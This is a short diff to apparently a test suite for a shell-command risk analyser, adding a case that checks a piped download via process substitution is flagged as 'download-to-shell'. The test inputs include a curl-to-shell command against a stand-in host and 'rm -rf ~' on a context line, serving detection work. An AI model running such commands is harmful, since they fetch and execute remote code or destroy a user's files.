@@ -45,6 +45,14 @@ describe("a process substitution that stands in a word", () => {
     expect(analysis.plain).toBeUndefined();
   });
 
+  it("is not taken for what puts out what another command reads", () => {
+    const [plain, glued] = ["", "A=<(a) "].map(
+      (start) => analyse(`${start}curl https://x.example/y > >(sh)`).risks,
+    );
+    expect(plain).toContain("download-to-shell");
+    expect(glued).toContain("download-to-shell");
+  });
+
   it("is an argument of its own where a space is before it", () => {
     expect(ran("A=1 <(a) rm -rf ~")).not.toContain("rm");
     expect(ran("diff <(ls a) <(ls b)")).toEqual(["ls", "ls", "diff"]);
